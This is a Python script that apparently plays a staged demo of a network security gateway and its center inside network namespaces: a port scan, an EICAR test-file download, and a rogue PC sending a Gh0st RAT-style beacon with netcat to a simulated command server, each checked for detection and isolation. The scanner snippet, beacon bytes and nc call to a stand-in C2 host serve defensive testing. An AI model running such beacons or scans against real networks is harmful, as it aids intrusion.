"""The story that ./run plays: from real programs over a pretend firm, until an owner has been told.

    python3 -m tools.story.story BUILD FOLDER [CONSOLE]

Runs until it is told to end (SIGTERM). FOLDER gets `progress` (what has happened so far, for ./run to show), `state.json` and
the logs. The exit status is 1 when the story did not come out as it should.
"""
import json
import os
import signal
import subprocess
import sys
import threading
import time
import traceback

from tools.story.center import Center
from tools.story.firm import Firm, clean
from tools.story.mailbox import Mailbox

TOP = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
PREFIX = "otasuke"
# Harmless by itself: every virus scanner knows it as the test file of EICAR. Written in two parts, so that this file is none.
TEST_VIRUS = r"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
BEACON = b"Gh0st\xad\x00\x00\x00\xe0\x00\x00\x00x\x9c" + bytes(range(64, 128))
FEED_SECONDS = 60


class Story:
    """`prefix` names the namespaces. The tests play it with rules (files) and options of their own for the box."""

    def __init__(self, build, folder, console=None, prefix=PREFIX, web_port=8080, rules=(), box_options=()):
        self.build, self.folder, self.prefix, self.web_port = build, folder, prefix, web_port
        self.rules = [os.path.join(TOP, "data", "rules", "otasuke.rules"), *rules]
        self.box_options = box_options
        self.progress_file = open(os.path.join(folder, "progress"), "w", encoding="utf-8", buffering=1)
        self.begin = time.monotonic()
        self.command_bytes = bytearray()
        self.firm = self.center = self.box = None
        self.console = console

    # ---- telling ----

    def say(self, text):
        print(f"[{time.monotonic() - self.begin:5.1f} s] {text}", file=self.progress_file)

    def state(self, **facts):
        path = os.path.join(self.folder, "state.json")
        with open(path + ".new", "w", encoding="utf-8") as out:
            json.dump(facts, out, ensure_ascii=False, indent=1)  # ./run reads it line by line
        os.rename(path + ".new", path)

    def wait(self, what, condition, seconds=FEED_SECONDS):
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            found = condition()
            if found:
                return found
            time.sleep(0.2)
        raise RuntimeError(f"waited {seconds} s for: {what}")

    def expect(self, fact, holds):
        if not holds:
            raise RuntimeError(f"this should hold, and does not: {fact}")
        self.say(f"  ok  {fact}")

    # ---- the stage ----

    def set_up(self):
        self.say("The center starts (mimamori serve, on loopback only)")
        self.mailbox = Mailbox(os.path.join(self.folder, "mails"))
        self.center = Center(self.build, self.folder, self.mailbox.port, self.console, self.web_port)
        if self.web_port and self.center.web != self.web_port:
            self.say(f"      port {self.web_port} is taken on this machine: the console is on port {self.center.web}")
        self.firm_row = self.center.say("firm", "add", "--data", self.center.data, "--name", "β製作所", "--site", "本社工場",
                                        "--mail", "shacho@beta.example", "--contact", "社長", "--phrase", "やまざくらの港")
        self.center.say("contact", "add", "--data", self.center.data, "--firm", self.firm_row["firm"], "--name", "Ms. Smith",
                        "--mail", "smith@beta.example", "--language", "en")
        self.box_row = self.center.say("gateway", "add", "--data", self.center.data, "--site", self.firm_row["site"], "--name",
                                       "本社の装置")
        self.center.login()
        self.say("The pretend firm is wired: Internet, router, box, switch, PCs (network namespaces)")
        self.firm = Firm(self.prefix, os.path.join(self.folder, "firm"))
        self.firm.relay(self.firm.box, ("127.0.0.1", 8443), ("127.0.0.1", self.center.gateways))
        self.firm.serve_dhcp()
        self.start_box(self.box_row["code"])
        self.start_outside()
        self.start_pcs()

    def omamori(self, *words, **more):
        return self.firm.box.run(os.path.join(self.build, "omamori"), *words, **more)

    def start_box(self, code):
        self.box_state = os.path.join(self.folder, "box")
        self.socket = os.path.join(self.folder, "omamori.sock")
        self.say(f"The box is enrolled with its claim code {code}")
        self.omamori("enrol", "--center", "127.0.0.1:8443", "--state", self.box_state, code, check=True, timeout=90)
        self.run_box()
        self.wait("the box to be connected with its center", self.connected)
        self.expect("the box inspects, and the center sees it", True)

    def run_box(self):
        """At first, and again after it has ended."""
        with open(os.path.join(self.folder, "omamori.log"), "a", encoding="utf-8") as log:
            self.box = self.firm.box.start(
                os.path.join(self.build, "omamori"), "run", "--lan", "lan", "--wan", "wan", "--state", self.box_state, "--socket",
                self.socket, *(word for path in self.rules for word in ("-S", path)), *self.box_options, stdout=log, stderr=log)
        self.wait("the engine to inspect", self.inspects)

    def status(self):
        return self.omamori("status", "--socket", self.socket).stdout

    def inspects(self):
        return "inspection   working" in self.status()

    def connected(self):
        return any(g["state"] == "online" for g in self.center.items("/api/gateways"))

    def start_outside(self):
        """The Internet: a web server with a clean page and the test virus, a mail server, a command server that listens."""
        web = os.path.join(self.folder, "web")
        os.makedirs(web, exist_ok=True)
        with open(os.path.join(web, "index.html"), "w", encoding="utf-8") as out:
            out.write("<html><body>hello</body></html>\n")
        with open(os.path.join(web, "invoice.com"), "w", encoding="utf-8") as out:
            out.write(TEST_VIRUS)
        self.firm.internet.start(sys.executable, "-m", "http.server", "80", "--bind", Firm.OUTSIDE, "--directory", web)
        with self.firm.internet.inside():
            import socket
            command = socket.create_server((Firm.OUTSIDE, 8000))
            self.mail_outside = Mailbox(os.path.join(self.folder, "mails-outside"), (Firm.OUTSIDE, 25))
        threading.Thread(target=self.listen, args=(command,), daemon=True).start()

    def listen(self, server):
        while True:
            try:
                peer, _ = server.accept()
                peer.settimeout(30)
                while chunk := peer.recv(4096):
                    self.command_bytes += chunk
            except OSError:
                continue

    def start_pcs(self):
        # MAC prefixes of real makers (IEEE's list): what a person reads on the label under the PC.
        self.keiri = self.firm.pc("keiri", "6c:e4:da:00:00:02")
        self.eigyo = self.firm.pc("eigyo", "00:22:72:00:00:01")
        self.server = self.firm.pc("server", "08:10:86:00:00:20", "192.168.10.20/24")
        self.server.start(sys.executable, "-m", "http.server", "80", "--bind", "192.168.10.20", "--directory", "/var/empty"
                          if os.path.isdir("/var/empty") else "/usr/share/doc")
        address = self.firm.dhcp(self.keiri, "KEIRI-02")
        self.say(f"KEIRI-02 (accounting) asks for an address by DHCP and gets {address}")
        address = self.firm.dhcp(self.eigyo, "EIGYO-01")
        self.say(f"EIGYO-01 (sales) gets {address}")
        page = self.keiri.run("curl", "-s", "-m", "10", f"http://{Firm.OUTSIDE}/").stdout
        self.expect("an ordinary web page arrives", "hello" in page)
        mail = self.eigyo.run("swaks", "--server", Firm.OUTSIDE, "--from", "eigyo@beta.example", "--to",
                              "kyaku@alpha.example", "--h-Subject", "estimate", "--body", "as discussed", timeout=60)
        self.expect("an ordinary mail leaves (swaks)", mail.returncode == 0 and len(self.mail_outside.mails) == 1)
        self.server.run("curl", "-s", "-m", "10", f"http://{Firm.OUTSIDE}/")
        self.wait("the center to know three machines", lambda: len(self.center.items("/api/devices")) == 3)
        self.center.ask("POST", f"/api/gateways/{self.box_row['gateway']}/confirm-devices")
        self.say("The technician looks through the list of machines in the console and confirms it: these three are the firm's")

    # ---- the scenes ----

    def scan(self):
        self.say("1. Somebody outside tries the ports of the firm's server")
        open_ports = self.firm.internet.run(
            sys.executable, "-c",
            "import socket\n"
            "for port in range(20, 140):\n"
            "    s = socket.socket(); s.settimeout(0.02); s.bind(('%s', 0))\n"
            "    print(port if s.connect_ex(('192.168.10.20', port)) == 0 else '', end=''); s.close()" % Firm.SCANNER,
            timeout=60).stdout
        self.say(f"      (open: {open_ports or 'none'})")
        self.wait("the scan to be known at the center", lambda: self.incident("scan"))
        self.expect("the center has one incident for it, level blue: no mail", not self.mails_about("scan"))

    def virus(self):
        self.say("2. EIGYO-01 downloads a test virus by HTTP (curl)")
        got = subprocess.run(self.eigyo.words("curl", "-s", "-m", "10", f"http://{Firm.OUTSIDE}/invoice.com"),
                             capture_output=True, timeout=30)
        self.expect("the PC did not get the file", TEST_VIRUS.encode() not in got.stdout)
        found = self.wait("the virus to be known at the center", lambda: self.incident("virus"))
        self.expect(f"the incident names the PC: {self.name_of(found)}", "EIGYO-01" in self.name_of(found))
        self.expect("it came from outside, and was stopped", (found["threat_direction"], found["verdict"]) ==
                    ("outside_in", "blocked"))

    def shadow(self):
        self.say("3. A PC that nobody knows of joins the LAN and calls its command server (Gh0st RAT beacon, nc)")
        pc = self.firm.pc("shadow", "00:25:dc:00:47:11")
        address = self.firm.dhcp(pc, "taro-note", "dhcpcd-9.4")
        self.say(f"      it gets {address} by DHCP, like any other")
        beacon = os.path.join(self.folder, "beacon")
        with open(beacon, "wb") as out:
            out.write(BEACON)
        for _ in range(3):
            pc.run("sh", "-c", f"nc -w 1 {Firm.OUTSIDE} 8000 < {beacon}", timeout=10)
        self.expect("not one byte of the beacon reached the command server", b"Gh0st" not in self.command_bytes)
        reply = pc.run("ping", "-c", "2", "-W", "1", Firm.ROUTER)
        self.expect("the PC is cut off: not even the router answers it", reply.returncode != 0)
        page = self.keiri.run("curl", "-s", "-m", "10", f"http://{Firm.OUTSIDE}/").stdout
        self.expect("the other PCs go on working", "hello" in page)
        found = self.wait("a red incident at the center", lambda: self.incident("c2"))
        self.expect(f"the incident names the PC: {self.name_of(found)}", "taro-note" in self.name_of(found))
        self.wait("the owner's mail", lambda: self.mails_about("c2"))
        mail = self.mails_about("c2")[0]
        self.expect(f"the owner has been told: {mail['Subject']}", mail["To"] is not None)
        self.expect("the mail says that nobody knows this PC, and when it was first seen",
                    "登録されていない機器" in mail.get_body().get_content())
        found = self.wait("the isolation at the center", lambda: self.incident("c2")["isolated"] and self.incident("c2"))
        self.expect("level red, from inside out, cut off", (found["level"], found["threat_direction"], found["verdict"]) ==
                    ("red", "inside_out", "isolated"))

    def incident(self, kind):
        for row in self.center.items("/api/incidents"):
            if row["kind"] == kind:
                return row
        return None

    @staticmethod
    def name_of(incident):
        device = incident.get("device") or {}
        return ", ".join(str(device.get(k)) for k in ("hostname", "maker", "mac") if device.get(k))

    def mails_about(self, kind):
        words = {"c2": ("通信", "切り離し", "command"), "scan": ("試し", "scan")}[kind]
        return [m for m in self.mailbox.mails if any(w in str(m["Subject"]) for w in words)]

    # ---- life ----

    def play(self):
        self.state(state="starting", pid=os.getpid())
        self.set_up()
        self.state(state="playing", pid=os.getpid(), url=self.center.base, login="admin", password=self.center.password)
        self.scan()
        self.virus()
        self.shadow()
        incident = self.incident("c2")
        self.say("The story is complete.")
        self.state(state="complete", pid=os.getpid(), url=self.center.base, login="admin", password=self.center.password,
                   incident=f"{self.center.base}/incidents/{incident['id']}", mails=self.mailbox.folder,
                   socket=self.socket)

    def close(self):
        if self.firm:
            self.firm.close()
        if self.center:
            self.center.close()


def main():
    build, folder = sys.argv[1:3]
    story = Story(build, folder, sys.argv[3] if len(sys.argv) > 3 else None)
    ended = threading.Event()
    for number in (signal.SIGTERM, signal.SIGINT):
        signal.signal(number, lambda *_: (_ for _ in ()).throw(SystemExit(0)))
    status = 0
    try:
        story.play()
        ended.wait()
    except SystemExit:
        pass
    except Exception as problem:  # whatever goes wrong: said, and everything is taken away again
        story.say(f"FAILED: {problem}")
        traceback.print_exc()
        story.state(state="failed", pid=os.getpid(), reason=str(problem))
        status = 1
    for number in (signal.SIGTERM, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)  # a second one must not leave half of it behind
    story.close()
    clean(PREFIX)
    return status


if __name__ == "__main__":
    sys.exit(main())
